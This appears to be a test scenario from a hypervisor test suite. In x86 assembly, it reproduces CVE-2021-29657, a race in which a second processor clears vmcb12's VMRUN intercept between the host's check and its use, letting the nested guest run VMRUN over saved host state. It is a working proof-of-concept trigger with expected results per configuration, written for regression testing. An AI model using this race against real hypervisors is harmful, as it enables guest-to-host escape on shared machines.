;; scenario G1: Another processor changes vmcb12 between VMRUN's checks and its use
;; origin   CVE-2021-29657, Linux a58d9166a756 (nSVM: load control fields from VMCB12 before checking them)
;; note     The second processor runs while L0 is between the two: its code below is what changes the VMRUN intercept.
;; note     Linux then lets L2 run VMRUN itself, over the host state that was saved for L1; Nestbox's L0 names what it cannot do.
;; include  svm64
;; cpu      EPYC-Milan
;; probe    race
;; right    N
;; cell     tdp cpus=2                          -> right
;; cell     shadow cpus=2                       -> right
;; cell     tdp cpus=2 svm.vmcb12Reads=twice    -> refused nested SVM: not implemented: VMRUN of L2 that L1 does not intercept
;; cell     shadow cpus=2 svm.vmcb12Reads=twice -> refused nested SVM: not implemented: VMRUN of L2 that L1 does not intercept
GO      equ 0x23a000
PDHIGH  equ 0x23b000
main:   call svm_on             ; step 0: vmcb12 intercepts VMRUN, as VMRUN demands
        mov esi, second
        mov edi, 0x8000
        mov ecx, second.end - second
        rep movsb
        mov dword [PDPTA + 24], PDHIGH + 3
        mov dword [PDHIGH + 0xfb8], 0xfee0009b
        mov ebx, 0xfee00300
        mov dword [rbx + 0x10], 0x1000000
        mov dword [rbx], 0x4500
        mov dword [rbx + 0x10], 0x1000000
        mov dword [rbx], 0x4608
.ready: cmp dword [GO], 1
        jne .ready
        mov dword [GO], 2
        call enter              ; step 1: VMRUN: L0 checks vmcb12
                                ; step 4: L0 merges vmcb02
        cmp eax, VMRUN_EXIT
        mov al, 'N'
        je tell                 ; step 6: L1 sees the exit
        mov al, 'O'
        jmp tell

        align 8
        bits 16
second: cli
        lgdt [cs:.gdtr - second]
        mov eax, cr0
        or al, 1
        mov cr0, eax
        mov bx, 16
        mov ds, bx
        mov ebx, GO
        mov dword [ebx], 1
.go:    cmp dword [ebx], 2
        jne .go
        mov ebx, MISC2
        mov dword [ebx], 2      ; step 2: the second processor clears the intercept
.stay:  pause                   ; step 3: it does nothing else
        jmp .stay
        align 4
.gdtr:  dw 39
        dd gdt
.end:
        bits 64
l2:     mov eax, VMCB
        vmrun                   ; step 5: L2 executes VMRUN
        vmmcall
